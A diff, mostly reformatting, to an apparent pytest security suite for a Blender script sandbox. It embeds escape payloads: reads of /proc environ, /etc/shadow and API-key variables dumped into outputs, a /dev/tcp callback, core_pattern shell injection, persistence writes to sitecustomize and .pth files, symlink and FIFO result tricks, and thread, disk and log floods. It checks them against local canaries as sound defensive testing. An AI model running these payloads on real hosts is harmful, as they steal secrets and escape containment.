@@ -18,6 +18,7 @@ posix_spawn and a raw clone syscall all wrote or ran outside. The attacks run tw
 (2 cores); a batch script runs each attempt in try/except and must reach its final marker, so
 one attempt failing cannot hide the others.
 """
+
 from __future__ import annotations
 
 import asyncio
@@ -50,7 +51,7 @@ DEFAULT = SandboxSettings(timeout_s=90, cpu_s=120, memory_mb=4096)
 PRELUDE = """import os as _os_for_test
 print("PIDNS", _os_for_test.readlink("/proc/self/ns/pid"), flush=True)
 """
-ATTEMPT = '''
+ATTEMPT = """
 import json as _json
 REPORT = []
 def attempt(name, fn):
@@ -64,7 +65,7 @@ def finish():
     print("PIDNS", _os_for_test.readlink("/proc/self/ns/pid"), flush=True)
     print("REPORT " + _json.dumps(REPORT), flush=True)
     print("ATTACKS-DONE", flush=True)
-'''
+"""
 
 
 @dataclass
@@ -87,10 +88,12 @@ def attacks(c: dict) -> list[Attack]:
     """The suite; ``c`` holds the canaries' host paths and ports (an attacker may guess them)."""
     f = {k: repr(str(v)) if isinstance(v, Path) else repr(v) for k, v in c.items()}
     return [
-        Attack("re-exported modules, attrgetter/methodcaller, dir_fd, symlink race, escape links", f"""
+        Attack(
+            "re-exported modules, attrgetter/methodcaller, dir_fd, symlink race, escape links",
+            f"""
 import bpy, dataclasses, operator, threading
 os_ = dataclasses.inspect.os
-OUTSIDE, CANARY = {f['outside']}, {f['outside']} + "/canary.txt"
+OUTSIDE, CANARY = {f["outside"]}, {f["outside"]} + "/canary.txt"
 attempt("builtins.open via inspect", lambda: dataclasses.inspect.builtins.open(CANARY, "w").write("pwned"))
 attempt("methodcaller system", lambda: operator.methodcaller("system", "echo pwned > " + CANARY)(os_))
 attempt("attrgetter sys.modules", lambda: operator.attrgetter("sys.modules")(os_)["os"].makedirs(OUTSIDE + "/new"))
@@ -119,8 +122,12 @@ attempt("private /tmp copy of the outside path", lambda: (os_.makedirs(OUTSIDE, 
                                                           open(CANARY, "w").write("only in my /tmp")))
 bpy.ops.mesh.primitive_cube_add()
 finish()
-""", batch=True),
-        Attack("secrets: environment, /proc, pid 1's fds, host and project files, into every output", f"""
+""",
+            batch=True,
+        ),
+        Attack(
+            "secrets: environment, /proc, pid 1's fds, host and project files, into every output",
+            f"""
 import bpy, glob, json, os
 texts = {{"env": dict(os.environ)}}
 def nb_read(p):
@@ -131,7 +138,7 @@ def nb_read(p):
         os.close(fd)
 for p in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline",
           *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
-          {f['host_secret']}, "/etc/shadow", "/etc/passwd", "/root/.bash_history", {f['project_file']},
+          {f["host_secret"]}, "/etc/shadow", "/etc/passwd", "/root/.bash_history", {f["project_file"]},
           "/proc/kcore", "/proc/keys", "/proc/kallsyms", "/dev/mem"]:
     attempt("read " + p, lambda p=p: texts.__setitem__(p, nb_read(p)))
 for fd in os.listdir("/proc/1/fd"):  # bwrap's init: the log pipe, /dev/null, an eventfd
@@ -149,10 +156,16 @@ print(blob[:300000])
 with open(os.environ["COMFY_AVATAR_OUTPUT_DIR"] + "/leak.txt", "w") as fh:
     fh.write(blob)
 finish()
-""", formats=("glb", "blend"), batch=True, via_agent=True),
-        Attack("Blender C-level I/O: operators, _bpy.ops.call, image/library writers, render, GN bake", f"""
+""",
+            formats=("glb", "blend"),
+            batch=True,
+            via_agent=True,
+        ),
+        Attack(
+            "Blender C-level I/O: operators, _bpy.ops.call, image/library writers, render, GN bake",
+            f"""
 import bpy, _bpy
-OUTSIDE = {f['outside']}
+OUTSIDE = {f["outside"]}
 bpy.ops.mesh.primitive_cube_add()
 attempt("save_as_mainfile", lambda: bpy.ops.wm.save_as_mainfile(filepath=OUTSIDE + "/a.blend", copy=True))
 attempt("_bpy.ops.call", lambda: _bpy.ops.call("WM_OT_save_as_mainfile", {{"filepath": OUTSIDE + "/b.blend", "copy": True}}))
@@ -163,7 +176,7 @@ attempt("Image.save", lambda: img.save())
 attempt("libraries.write", lambda: bpy.data.libraries.write(OUTSIDE + "/e.blend", set()))
 attempt("gltf export", lambda: bpy.ops.export_scene.gltf(filepath=OUTSIDE + "/f.glb", export_format="GLB"))
 attempt("obj export", lambda: bpy.ops.wm.obj_export(filepath=OUTSIDE + "/g.obj"))
-for p in ("/proc/1/environ", {f['host_secret']}, "/etc/shadow", {f['project_file']}):
+for p in ("/proc/1/environ", {f["host_secret"]}, "/etc/shadow", {f["project_file"]}):
     attempt("texts.load " + p, lambda p=p: bpy.data.texts.load(p).as_string()[:100])
 sc = bpy.context.scene
 sc.render.engine = "BLENDER_WORKBENCH"; sc.render.resolution_x = sc.render.resolution_y = 16
@@ -189,10 +202,14 @@ def gn_bake():
     return out
 attempt("geometry nodes bake_directory", gn_bake)
 finish()
-""", batch=True),
-        Attack("fluid cache_directory bake (mantaflow aborts the process afterwards)", f"""
+""",
+            batch=True,
+        ),
+        Attack(
+            "fluid cache_directory bake (mantaflow aborts the process afterwards)",
+            f"""
 import bpy
-OUTSIDE = {f['outside']}
+OUTSIDE = {f["outside"]}
 bpy.ops.mesh.primitive_cube_add(size=2); dom = bpy.context.active_object
 mod = dom.modifiers.new("Fluid", "FLUID"); mod.fluid_type = "DOMAIN"
 ds = mod.domain_settings; ds.resolution_max = 6; ds.cache_directory = OUTSIDE + "/fluid"; ds.cache_frame_end = 2
@@ -206,11 +223,14 @@ try:
         print("bake", bpy.ops.fluid.bake_all(), flush=True)
 except Exception as e:
     print("bake failed", e, flush=True)
-"""),
-        Attack("process creation: fork_exec, multiprocessing, sub-interpreter, posix_spawn, raw clone, "
-               "signals to the outside, a daemon", f"""
+""",
+        ),
+        Attack(
+            "process creation: fork_exec, multiprocessing, sub-interpreter, posix_spawn, raw clone, "
+            "signals to the outside, a daemon",
+            f"""
 import bpy, ctypes, os, signal, socket, threading, time, _posixsubprocess, multiprocessing
-OUTSIDE, PORT, OUTSIDE_PID = {f['outside']}, {c['port']}, {c['outside_pid']}
+OUTSIDE, PORT, OUTSIDE_PID = {f["outside"]}, {c["port"]}, {c["outside_pid"]}
 CMD = "touch " + OUTSIDE + "/ran; sleep 3; exec 3<>/dev/tcp/127.0.0.1/" + str(PORT)
 def fe():
     r, w = os.pipe()
@@ -247,9 +267,13 @@ threading.Thread(target=beacon, daemon=True).start()
 time.sleep(1)
 bpy.ops.mesh.primitive_cube_add()
 finish()
-""", batch=True),
-        Attack("kernel surface: sysctl, mount, namespaces, keyrings, bpf, io_uring, x32, sockets, tty, "
-               "persistence in the runtime", f"""
+""",
+            batch=True,
+        ),
+        Attack(
+            "kernel surface: sysctl, mount, namespaces, keyrings, bpf, io_uring, x32, sockets, tty, "
+            "persistence in the runtime",
+            f"""
 import bpy, ctypes, errno, fcntl, os, socket, sys, sysconfig, termios
 libc = ctypes.CDLL(None, use_errno=True)
 def sc(nr, *a):
@@ -258,7 +282,7 @@ def sc(nr, *a):
 def wr(p, data="x"):
     with open(p, "a") as fh:
         fh.write(data)
-attempt("core_pattern", lambda: wr("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch {c['outside']}/core'"))
+attempt("core_pattern", lambda: wr("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch {c["outside"]}/core'"))
 attempt("sysrq", lambda: wr("/proc/sysrq-trigger", "h"))
 attempt("unshare user", lambda: sc(272, 0x10000000))
 attempt("unshare net", lambda: sc(272, 0x40000000))
@@ -278,21 +302,25 @@ attempt("memfd_create", memfd)
 attempt("SysV shmget", lambda: sc(29, 0, 64 << 20, 0o1000 | 0o600))
 attempt("TIOCSTI /dev/tty", lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), termios.TIOCSTI, b"x"))
 attempt("TIOCSTI stdin", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x"))
-attempt("tcp 127.0.0.1", lambda: socket.create_connection(("127.0.0.1", {c['port']}), timeout=2).sendall(b"tcp"))
-attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp", ("127.0.0.1", {c['port']})))
+attempt("tcp 127.0.0.1", lambda: socket.create_connection(("127.0.0.1", {c["port"]}), timeout=2).sendall(b"tcp"))
+attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp", ("127.0.0.1", {c["port"]})))
 attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
 def unix(addr):
     s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(addr); s.sendall(b"unix")
-attempt("abstract unix", lambda: unix("\\0" + {f['abstract']}))
-attempt("filesystem unix", lambda: unix({f['unix_path']}))
+attempt("abstract unix", lambda: unix("\\0" + {f["abstract"]}))
+attempt("filesystem unix", lambda: unix({f["unix_path"]}))
 site = sysconfig.get_paths()["purelib"]
-for p in (site + "/sitecustomize.py", site + "/evil.pth", sys.prefix + "/pyvenv.cfg", {f['blender_cli']} + "/sandbox_exec.py",
+for p in (site + "/sitecustomize.py", site + "/evil.pth", sys.prefix + "/pyvenv.cfg", {f["blender_cli"]} + "/sandbox_exec.py",
           "/usr/lib/evil", "/etc/ld.so.cache", os.path.dirname(__import__("bpy").__file__) + "/__init__.py"):
     attempt("persist " + p, lambda p=p: wr(p, "\\nimport os; os.system('touch /tmp/pwned')\\n"))
 bpy.ops.mesh.primitive_cube_add()
 finish()
-""", batch=True),
-        Attack("result.json replaced by a symlink to /proc/self/environ", """
+""",
+            batch=True,
+        ),
+        Attack(
+            "result.json replaced by a symlink to /proc/self/environ",
+            """
 import os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = __import__("json").load(open(args[args.index(b"--job") + 1].decode()))
@@ -300,8 +328,12 @@ os.symlink("/proc/self/environ", job["result"])
 os.makedirs("/job/out", exist_ok=True)
 os.symlink("/proc/self/environ", "/job/out/asset.glb")
 os._exit(0)
-""", expect_error=("without writing a result",)),
-        Attack("fake ok result, outputs as symlinks / FIFO", """
+""",
+            expect_error=("without writing a result",),
+        ),
+        Attack(
+            "fake ok result, outputs as symlinks / FIFO",
+            """
 import json, os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = json.load(open(args[args.index(b"--job") + 1].decode()))
@@ -312,8 +344,13 @@ with open(job["result"], "w") as fh:
     json.dump({"ok": True, "result": {"files": {"glb": "../../../../proc/self/environ", "fbx": "out/asset.fbx"},
                                       "triangles": 12}}, fh)
 os._exit(0)
-""", formats=("glb", "fbx"), expect_error=("could not be taken from the work dir",)),
-        Attack("fake ok result, out/ is a symlink to /proc/self", """
+""",
+            formats=("glb", "fbx"),
+            expect_error=("could not be taken from the work dir",),
+        ),
+        Attack(
+            "fake ok result, out/ is a symlink to /proc/self",
+            """
 import json, os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = json.load(open(args[args.index(b"--job") + 1].decode()))
@@ -323,8 +360,12 @@ os.symlink("environ", "/job/asset.glb")
 with open(job["result"], "w") as fh:
     json.dump({"ok": True, "result": {"files": {"glb": "out/environ"}}}, fh)
 os._exit(0)
-""", expect_error=("could not be taken from the work dir",)),
-        Attack("result.json and the output as FIFOs (the parent must not hang)", """
+""",
+            expect_error=("could not be taken from the work dir",),
+        ),
+        Attack(
+            "result.json and the output as FIFOs (the parent must not hang)",
+            """
 import json, os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = json.load(open(args[args.index(b"--job") + 1].decode()))
@@ -332,33 +373,49 @@ os.makedirs("/job/out", exist_ok=True)
 os.mkfifo("/job/out/asset.glb")
 os.mkfifo(job["result"])
 os._exit(0)
-""", expect_error=("without writing a result",)),
-        Attack("a 100 MB result.json", """
+""",
+            expect_error=("without writing a result",),
+        ),
+        Attack(
+            "a 100 MB result.json",
+            """
 import json, os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = json.load(open(args[args.index(b"--job") + 1].decode()))
 with open(job["result"], "w") as fh:
     fh.write('{"ok": true, "result": {"pad": "' + "x" * (100 * 1024 * 1024) + '"}}')
 os._exit(0)
-""", expect_error=("without writing a result",)),
-        Attack("a 1.5 MB error message and traceback (they travel to logs and the coder's prompt)", """
+""",
+            expect_error=("without writing a result",),
+        ),
+        Attack(
+            "a 1.5 MB error message and traceback (they travel to logs and the coder's prompt)",
+            """
 import json, os
 args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
 job = json.load(open(args[args.index(b"--job") + 1].decode()))
 with open(job["result"], "w") as fh:
     json.dump({"ok": False, "error": "E" * 1_500_000, "error_type": "T" * 10000, "traceback": "B" * 1_500_000}, fh)
 os._exit(1)
-""", expect_error=("EEEE",)),
-        Attack("filling the work dir", """
+""",
+            expect_error=("EEEE",),
+        ),
+        Attack(
+            "filling the work dir",
+            """
 import os
 i = 0
 while True:
     with open(f"/job/fill{i}", "wb") as fh:
         fh.write(os.urandom(8 << 20))
     i += 1
-""", settings=SandboxSettings(timeout_s=90, cpu_s=120, memory_mb=4096, work_mb=64),
-               expect_error=("filled its work dir past the limit",)),
-        Attack("filling /tmp and /dev/shm (memory-backed)", """
+""",
+            settings=SandboxSettings(timeout_s=90, cpu_s=120, memory_mb=4096, work_mb=64),
+            expect_error=("filled its work dir past the limit",),
+        ),
+        Attack(
+            "filling /tmp and /dev/shm (memory-backed)",
+            """
 import bpy, os
 for d in ("/tmp", "/dev/shm"):
     n = 0
@@ -371,16 +428,22 @@ for d in ("/tmp", "/dev/shm"):
     else:
         print("FILLED", d, n, "MB without error", flush=True)
 bpy.ops.mesh.primitive_cube_add()
-"""),
-        Attack("log flood", """
+""",
+        ),
+        Attack(
+            "log flood",
+            """
 import bpy, os
 line = b"flood " * 2000 + b"\\n"
 for _ in range(15000):   # ~180 MB
     os.write(1, line)
 bpy.ops.mesh.primitive_cube_add()
 print("FLOOD-END", flush=True)
-"""),
-        Attack("thread bomb", """
+""",
+        ),
+        Attack(
+            "thread bomb",
+            """
 import bpy, threading, time
 n = 0
 try:
@@ -389,7 +452,9 @@ try:
 except (RuntimeError, MemoryError) as e:
     print("THREADS", n, e, flush=True)
 bpy.ops.mesh.primitive_cube_add()
-""", settings=SandboxSettings(timeout_s=60, cpu_s=120, memory_mb=3072)),
+""",
+            settings=SandboxSettings(timeout_s=60, cpu_s=120, memory_mb=3072),
+        ),
     ]
 
 
@@ -425,12 +490,27 @@ def _tree_state(root: Path) -> dict[str, str]:
 def _persistence_targets(runtime) -> list[Path]:
     """What the persistence attempts write to: the runtime's site-packages hooks, its pyvenv.cfg and
     bpy/__init__.py, blender_cli/sandbox_exec.py, /usr and /etc/ld.so.cache."""
-    system = [PACK_DIR / "blender_cli" / "sandbox_exec.py", Path("/usr/lib/evil"), Path("/etc/ld.so.cache"), Path("/tmp/pwned")]
+    system = [
+        PACK_DIR / "blender_cli" / "sandbox_exec.py",
+        Path("/usr/lib/evil"),
+        Path("/etc/ld.so.cache"),
+        Path("/tmp/pwned"),
+    ]
     if runtime.kind != "python":  # a Blender binary: its install folder is bound read-only like the rest
         return system + [Path(runtime.executable)]
-    out = subprocess.run([str(runtime.executable), "-I", "-c", "import sysconfig, sys, importlib.util as u;"
-                          "print(sysconfig.get_paths()['purelib']); print(sys.prefix);"
-                          "print(u.find_spec('bpy').origin)"], capture_output=True, text=True, timeout=60)
+    out = subprocess.run(
+        [
+            str(runtime.executable),
+            "-I",
+            "-c",
+            "import sysconfig, sys, importlib.util as u;"
+            "print(sysconfig.get_paths()['purelib']); print(sys.prefix);"
+            "print(u.find_spec('bpy').origin)",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     site, prefix, bpy_init = out.stdout.split()
     return [Path(site, "sitecustomize.py"), Path(site, "evil.pth"), Path(prefix, "pyvenv.cfg"), Path(bpy_init), *system]
 
@@ -462,8 +542,10 @@ class Listeners:
         self.unix.bind(str(self.unix_path))
         self.unix.listen(4)
         self._stop = threading.Event()
-        self._threads = [threading.Thread(target=self._serve, args=(s, n), daemon=True) for s, n in
-                         ((self.tcp, "tcp"), (self.abstract, "abstract"), (self.unix, "unix"))]
+        self._threads = [
+            threading.Thread(target=self._serve, args=(s, n), daemon=True)
+            for s, n in ((self.tcp, "tcp"), (self.abstract, "abstract"), (self.unix, "unix"))
+        ]
         self._threads.append(threading.Thread(target=self._udp, daemon=True))
         for t in self._threads:
             t.start()
@@ -502,14 +584,34 @@ async def _run_one(a: Attack, root: Path, sem: asyncio.Semaphore, runtime) -> No
         t0 = time.perf_counter()
         try:
             if a.via_agent:
-                res = await build_asset({}, coder=None, out_dir=a.out_dir, name="asset", formats=list(a.formats),
-                                        script=src, max_attempts=1, sandbox=a.settings, runtime=runtime)
-                a.run = SandboxRun(True, "blender", outputs=res.outputs, result=res.result,
-                                   log_tail=Path(res.log_path).read_text(errors="replace"))
+                res = await build_asset(
+                    {},
+                    coder=None,
+                    out_dir=a.out_dir,
+                    name="asset",
+                    formats=list(a.formats),
+                    script=src,
+                    max_attempts=1,
+                    sandbox=a.settings,
+                    runtime=runtime,
+                )
+                a.run = SandboxRun(
+                    True,
+                    "blender",
+                    outputs=res.outputs,
+                    result=res.result,
+                    log_tail=Path(res.log_path).read_text(errors="replace"),
+                )
                 a.log = a.run.log_tail
             else:
-                a.run = await run_script(src, out_dir=a.out_dir, formats=a.formats, sandbox=a.settings,
-                                         runtime=runtime, keep_log=a.out_dir / "kept.log")
+                a.run = await run_script(
+                    src,
+                    out_dir=a.out_dir,
+                    formats=a.formats,
+                    sandbox=a.settings,
+                    runtime=runtime,
+                    keep_log=a.out_dir / "kept.log",
+                )
                 a.log = (a.out_dir / "kept.log").read_text(errors="replace")
         except BaseException as e:  # noqa: BLE001 - examined by the test
             a.exception = e
@@ -535,17 +637,29 @@ def suite(tmp_path_factory, blender_runtime):
         shadow = Path("/etc/shadow").read_text().splitlines()[0]
     except (OSError, IndexError):
         pass
-    env_names = {"COMFY_AVATAR_LLM_API_KEY": SECRET, "OPENAI_API_KEY": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET,
-                 "HF_TOKEN": SECRET, "RANDOM_THING": PLAIN_SECRET}
+    env_names = {
+        "COMFY_AVATAR_LLM_API_KEY": SECRET,
+        "OPENAI_API_KEY": SECRET,
+        "AWS_SECRET_ACCESS_KEY": SECRET,
+        "HF_TOKEN": SECRET,
+        "RANDOM_THING": PLAIN_SECRET,
+    }
     saved = {k: os.environ.get(k) for k in env_names}
     os.environ.update(env_names)
     core_pattern = Path("/proc/sys/kernel/core_pattern").read_text()
     watched = _persistence_targets(blender_runtime)
     watched_before = {p: _digest(p) for p in watched}
     before_outside = _tree_state(outside)
-    ctx = {"outside": outside, "port": listeners.port, "outside_pid": sleeper.pid, "host_secret": host_secret,
-           "project_file": PACK_DIR / "install.py", "abstract": listeners.abstract_name,
-           "unix_path": listeners.unix_path, "blender_cli": PACK_DIR / "blender_cli"}
+    ctx = {
+        "outside": outside,
+        "port": listeners.port,
+        "outside_pid": sleeper.pid,
+        "host_secret": host_secret,
+        "project_file": PACK_DIR / "install.py",
+        "abstract": listeners.abstract_name,
+        "unix_path": listeners.unix_path,
+        "blender_cli": PACK_DIR / "blender_cli",
+    }
     suite = attacks(ctx)
 
     async def main():
@@ -557,11 +671,18 @@ def suite(tmp_path_factory, blender_runtime):
         asyncio.run(main())
         took = time.perf_counter() - t0
         time.sleep(4)  # a daemon that waited before phoning home would have done it by now
-        yield {"attacks": {a.name: a for a in suite}, "outside": outside, "before_outside": before_outside,
-               "listeners": listeners.received[:], "sleeper_alive": sleeper.poll() is None,
-               "needles": [n for n in (SECRET, PLAIN_SECRET, HOST_SECRET, PROJECT_CHUNK, shadow) if n],
-               "core_pattern": (core_pattern, Path("/proc/sys/kernel/core_pattern").read_text()),
-               "watched": (watched_before, {p: _digest(p) for p in watched}), "took": took, "tmp": tmp}
+        yield {
+            "attacks": {a.name: a for a in suite},
+            "outside": outside,
+            "before_outside": before_outside,
+            "listeners": listeners.received[:],
+            "sleeper_alive": sleeper.poll() is None,
+            "needles": [n for n in (SECRET, PLAIN_SECRET, HOST_SECRET, PROJECT_CHUNK, shadow) if n],
+            "core_pattern": (core_pattern, Path("/proc/sys/kernel/core_pattern").read_text()),
+            "watched": (watched_before, {p: _digest(p) for p in watched}),
+            "took": took,
+            "tmp": tmp,
+        }
     finally:
         listeners.close()
         sleeper.kill()
@@ -575,8 +696,11 @@ def suite(tmp_path_factory, blender_runtime):
 
 def _leaks(a: Attack, needles: list[str]) -> list[str]:
     found = []
-    texts = {"error": a.run.error if a.run else str(a.exception), "log": a.log + (a.run.log_tail if a.run else ""),
-             "result": json.dumps(a.run.result if a.run else {}, default=str)}
+    texts = {
+        "error": a.run.error if a.run else str(a.exception),
+        "log": a.log + (a.run.log_tail if a.run else ""),
+        "result": json.dumps(a.run.result if a.run else {}, default=str),
+    }
     for where, text in texts.items():
         found += [f"{n[:20]}... in the {where}" for n in needles if n in text]
     for p in a.out_dir.rglob("*") if a.out_dir and a.out_dir.exists() else []:
@@ -586,8 +710,25 @@ def _leaks(a: Attack, needles: list[str]) -> list[str]:
     return found
 
 
-NAMES = [a.name for a in attacks({k: "" for k in ("outside", "port", "outside_pid", "host_secret", "project_file",
-                                                 "abstract", "unix_path", "blender_cli")} | {"port": 0, "outside_pid": 0})]
+NAMES = [
+    a.name
+    for a in attacks(
+        {
+            k: ""
+            for k in (
+                "outside",
+                "port",
+                "outside_pid",
+                "host_secret",
+                "project_file",
+                "abstract",
+                "unix_path",
+                "blender_cli",
+            )
+        }
+        | {"port": 0, "outside_pid": 0}
+    )
+]
 
 
 @pytest.mark.parametrize("name", NAMES, ids=[re.sub(r"[^a-z0-9]+", "-", n.lower())[:40].strip("-") for n in NAMES])
